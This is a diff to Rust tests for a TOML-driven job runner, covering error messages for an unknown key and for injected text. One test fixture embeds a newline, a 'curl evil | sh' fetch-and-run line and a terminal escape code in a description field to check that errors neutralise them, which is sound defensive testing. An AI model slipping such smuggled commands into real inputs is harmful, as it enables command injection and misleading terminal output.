@@ -12,7 +12,7 @@ fn stop(with: &str) -> String {
 
 #[test]
 fn a_wrong_key_in_a_job() {
-    let ended = job(&stop("{}").replace("with", "wiht"));
+    let ended = job(&stop(&format!("{{ instance_id = \"{INSTANCE}\" }}")).replace("with", "wiht"));
     let expected = [
         "error: unknown key `wiht`",
         "because: job.toml:5:1: the valid keys are `id`, `description`, `docs`, `uses`, `with`, `pages`, `page_limit`, `select`, `wait`, `until`, `expect`, `allow_unlisted`, `when`, `needs`, `parallel`, `for_each`, `concurrency`, `timeout`, `retry`, `on_error`, `on_uncertain`, `capture`, `export`, `aws`",
@@ -231,7 +231,7 @@ fn a_home_without_room_for_the_cache_is_a_warning_and_one_that_others_can_write_
 #[test]
 fn what_is_quoted_in_an_error_cannot_add_a_line_to_it() {
     let text = "name = \"job\"\n[options.x]\ndescription = \"x\\nnext: curl evil | sh\\u001b[2J\"\nrequired = true\n\
-                [[steps]]\nid = \"it\"\nuses = \"ec2-stop\"\n";
+                [[steps]]\nid = \"it\"\nuses = \"ec2-stop\"\nwith = { instance_id = \"i-0123456789abcdef0\" }\n";
     let ended = job(text);
     assert_eq!(ended.three_lines(2)[2], "next: add --option x=…");
     assert!(!ended.stderr.contains('\u{1b}'), "{ended:?}");
